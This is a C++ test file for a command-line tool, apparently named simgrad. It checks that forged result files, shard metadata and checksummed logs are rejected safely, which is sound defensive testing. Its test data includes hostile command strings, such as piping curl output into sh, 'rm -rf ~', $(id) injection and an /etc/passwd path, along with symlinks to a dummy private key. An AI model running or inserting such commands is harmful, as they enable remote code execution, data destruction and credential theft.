// Results that somebody has forged: commands in them are not passed on, links in shards do not travel, lines of a log
// do not count.
#include <fmt/format.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <system_error>

#include "base/hash.h"
#include "catch.h"
#include "cli/predicting.h"
#include "cli/sharded.h"

namespace forged_results_test {

using namespace simgrad::tests;
namespace fs = std::filesystem;

namespace {

const std::string secret = "-----BEGIN OPENSSH PRIVATE KEY-----\nnobody else's\n";

void edit(const std::string& file, const std::function<void(Json& json)>& change) {
  Json json = Json::parse(contents(file));
  change(json);
  std::ofstream(file) << json.dump(2) << "\n";
}

/// The command on the page of results that name this one.
std::string command_on_page(const Scratch& scratch, const std::string& command, std::string* told = nullptr) {
  edit(scratch.path() + "/out/x/results.json", [&](Json& json) { json["command"] = command; });
  const Called called = program("report out/x --template page.html --out seen.html", scratch);
  REQUIRE(called.exit_code == 0);
  if (told) *told = called.err;
  return Json::parse(contents(scratch.path() + "/seen.html"))["foot"]["command"];
}

std::vector<std::string> files_in(const std::string& folder) {
  std::vector<std::string> files;
  std::error_code none;
  for (const auto& entry : fs::directory_iterator(folder, none)) files.push_back(entry.path().string());
  std::ranges::sort(files);
  return files;
}

}  // namespace

TEST_CASE("a command in results is on the page only if it is one of the program's") {
  const Scratch scratch;
  scratch.write("x.toml", small);
  scratch.write("page.html", "@simgrad-data@");
  REQUIRE(program("run x.toml --quiet --no-why", scratch).exit_code == 0);
  for (const char* sound :
       {"simgrad run x.toml", "simgrad plan x.toml --set a=1", "simgrad run 'my x.toml' --seeds 1..3",
        "simgrad run x.toml --set 'title=\"a; $(b) | c\"' --grid a=1,2 --seeds 1..2 --strategy "
        "'a b' --no-baseline --all-ranks --timelines all"}) {
    INFO(sound);
    CHECK(command_on_page(scratch, sound) == sound);
  }
  for (const char* forged : {"curl -s https://example.org/x | sh",
                             "simgrad run x.toml; rm -rf ~",
                             "simgrad run x.toml && id",
                             "simgrad run $(id)",
                             "simgrad run `id`",
                             "simgrad run x.toml\nid",
                             "simgrad run x.toml > ~/.bashrc",
                             "simgrad run x.toml --out /home",
                             "simgrad run x.toml --force",
                             "simgrad  run x.toml",
                             " simgrad run x.toml",
                             "simgrad report x",
                             "simgrad run",
                             "simgrad run --help",
                             "simgrad run x.toml y.toml",
                             "./simgrad run x.toml",
                             "PATH=. simgrad run x.toml",
                             "simgrad run 'x\x1b[201~.toml'",
                             "simgrad run '\xe2\x80\xae.toml'",
                             "simgrad run x.toml --trace=/etc/passwd",
                             "simgrad run \"x.toml\"",
                             "simgrad run x.toml #"}) {
    INFO(forged);
    std::string told;
    CHECK(command_on_page(scratch, forged, &told).empty());
    CHECK(told ==
          "simgrad: the command in out/x/results.json is none that simgrad writes; it is left out of the page\n");
  }
}

TEST_CASE("merge tells and writes commands of its own, whatever a shard says") {
  const Scratch scratch;
  scratch.write("x.toml", small);
  const std::string selection = "x.toml --set 'title=\"it is\"' --seeds 1..3";
  for (const char* shard : {"1/2", "2/2"})
    REQUIRE(program(fmt::format("run {} --quiet --out out --shard {}", selection, shard), scratch).exit_code == 0);
  REQUIRE(program(fmt::format("run {} --quiet --no-why --out whole", selection), scratch).exit_code == 0);
  for (const char* shard : {"1", "2"})
    edit(fmt::format("{}/out/shard-{}-of-2/experiment.json", scratch.path(), shard),
         [](Json& json) { json["shard"]["command"] = "curl https://example.org/x | sh;"; });
  const Called missing = program("merge out/shard-1-of-2 --out merged", scratch);
  CHECK(missing.exit_code == 2);
  CHECK_FALSE(contains(missing.err, "curl"));
  CHECK(contains(missing.err, fmt::format("missing: simgrad run {} --shard 2/2 --out out\n", selection)));
  REQUIRE(program("merge out --no-why --quiet --out merged", scratch).exit_code == 0);
  CHECK(differing(scratch.path() + "/merged", scratch.path() + "/whole") == "equal");
  edit(scratch.path() + "/out/shard-1-of-2/experiment.json", [](Json& json) { json["shard"]["file"] = "--help"; });
  const Called option = program("merge out --no-why --quiet --out other", scratch);
  CHECK(option.exit_code == 2);
  CHECK(contains(option.err, "its experiment.json names the scenario --help, expected the name of a file"));
}

TEST_CASE("merge brings no link, and no file that is not whole, out of a shard") {
  for (const char* model : {"", "save_model = true\n"}) {  // runs that keep their models share no numbers
    const Scratch scratch;
    scratch.write("x.toml",
                  model + small + "[grid]\n\"cluster.bandwidth\" = [\"1Gbps\", \"2Gbps\", \"3Gbps\", \"4Gbps\"]\n");
    scratch.write("id_rsa", secret);
    for (const char* shard : {"1/2", "2/2"})
      REQUIRE(program(std::string("run x.toml --quiet --out parts --shard ") + shard, scratch).exit_code == 0);
    const auto merged_with = [&](const std::string& file, const std::function<void()>& put) {
      INFO(file);
      REQUIRE(fs::exists(file));
      fs::rename(file, scratch.path() + "/aside");
      put();
      fs::remove_all(scratch.path() + "/merged");
      const Called called = program("merge parts --quiet --no-why --out merged", scratch);
      INFO(called.err);
      CHECK(called.exit_code != 124);
      if (fs::exists(scratch.path() + "/merged"))
        for (const auto& entry : fs::recursive_directory_iterator(scratch.path() + "/merged")) {
          INFO(entry.path().string());
          CHECK_FALSE(entry.is_symlink());
          if (entry.is_regular_file()) CHECK_FALSE(contains(contents(entry.path().string()), "nobody else's"));
        }
      CHECK(contents(scratch.path() + "/id_rsa") == secret);
      fs::remove(file);
      fs::rename(scratch.path() + "/aside", file);
    };
    for (const char* folder : {"runs", "models", "timelines", "trajectories"})
      for (const std::string& file : files_in(scratch.path() + "/parts/shard-1-of-2/" + folder)) {
        merged_with(file, [&] { fs::create_symlink(scratch.path() + "/id_rsa", file); });
        merged_with(file, [&] { fs::create_hard_link(scratch.path() + "/id_rsa", file); });
        merged_with(file, [&] { REQUIRE(mkfifo(file.c_str(), 0600) == 0); });
      }
    for (const char* folder : {"models", "trajectories"})
      fs::create_directories(scratch.path() + "/parts/shard-1-of-2/" + folder);
    for (const char* other : {"trajectories/id_rsa", "trajectories/0123456789abcdef",
                              "trajectories/0123456789abcdef.state", "models/0123456789abcdef.model"})
      fs::create_symlink(scratch.path() + "/id_rsa", scratch.path() + "/parts/shard-1-of-2/" + other);
    REQUIRE(program("merge parts --quiet --no-why --out whole", scratch).exit_code == 0);
    for (const auto& entry : fs::recursive_directory_iterator(scratch.path() + "/whole")) {
      CHECK_FALSE(entry.is_symlink());
      CHECK_FALSE(contains(entry.path().string(), "id_rsa"));
    }
    CHECK_FALSE(fs::exists(scratch.path() + "/whole/trajectories/0123456789abcdef"));
  }
}

TEST_CASE("an experiment.json without a scenario is nobody's, and only --force replaces it") {
  const Scratch scratch;
  scratch.write("x.toml", small);
  fs::create_directories(scratch.path() + "/out/x");
  for (const char* text : {R"({"name":"x","results":6})", R"({"results":6,"scenario":3})", "[]", "3"}) {
    INFO(text);
    scratch.write("out/x/experiment.json", text);
    const Called refused = program("run x.toml --quiet", scratch);
    CHECK(refused.exit_code == 5);
    CHECK(refused.err ==
          "out/x/experiment.json: found no scenario in it; so nobody knows whose results these "
          "are; --force replaces them\n");
    CHECK(contents(scratch.path() + "/out/x/experiment.json") == text);
    CHECK(program("run x.toml --quiet --force --no-why", scratch).exit_code == 0);
  }
}

TEST_CASE("a simulation of a plan counts by its checksum and its numbers, and is done again without them") {
  const Scratch scratch;
  scratch.write("x.toml", with(small, "steps = 10\n", "steps = 10\nloss = 0.3\n") +
                              "[plan]\nobjective = \"fastest\"\nseconds = \"20s\"\n[plan.space]\n"
                              "\"training.learning_rate\" = [0.1, 0.2]\n");
  REQUIRE(program("plan x.toml --quiet --no-confirm", scratch).exit_code == 0);
  const std::string log = scratch.path() + "/out/x/simulations.jsonl", whole = contents(log);
  const std::string answer = contents(scratch.path() + "/out/x/candidates.csv");
  const std::vector<std::string> lines = lines_of(whole);
  REQUIRE(lines.size() >= 2);
  Json line = Json::parse(lines[0]);
  line.erase("checksum");
  const auto sealed = [](const Json& json) {
    std::string text = json.dump();
    const std::string checksum = simgrad::base::hash(text);
    text.pop_back();
    return text + ",\"checksum\":\"" + checksum + "\"}";
  };
  REQUIRE(sealed(line) == lines[0]);
  const auto changed = [&](const char* member, const Json& value) {
    Json other = line;
    other["outcome"][member] = value;
    return sealed(other);
  };
  Json of_nobody = line;
  of_nobody["id"] = "../../x";
  const std::string deep(100'000, '[');
  for (const std::string& forged :
       {line.dump(), with(lines[0], "\"time_s\":", "\"time_s\":1"), changed("time_s", -1.0), changed("time_s", nullptr),
        changed("steps", -1), changed("usd", -2.0), changed("status", "won"), changed("curve", Json::array({1})),
        changed("curve", Json::array({Json::array({0.0, 2.0, 1.0}), Json::array({1.0, 1.0, 1.0})})), sealed(of_nobody),
        std::string("{\"id\":") + deep, deep}) {
    INFO(forged.substr(0, 500));
    std::string text = forged + "\n";
    for (std::size_t k = 1; k < lines.size(); ++k) text += lines[k] + "\n";
    scratch.write("out/x/simulations.jsonl", text);
    const Called again = program("plan x.toml --quiet --no-confirm", scratch);
    CHECK(again.exit_code == 0);
    CHECK(
        contains(again.err, fmt::format("out/x/simulations.jsonl: 1 of {} lines has no checksum or other contents than "
                                        "those of the checksum; its simulation is done again where the plan needs it\n",
                                        lines.size())));
    CHECK(contents(scratch.path() + "/out/x/candidates.csv") == answer);
  }
}

}  // namespace forged_results_test
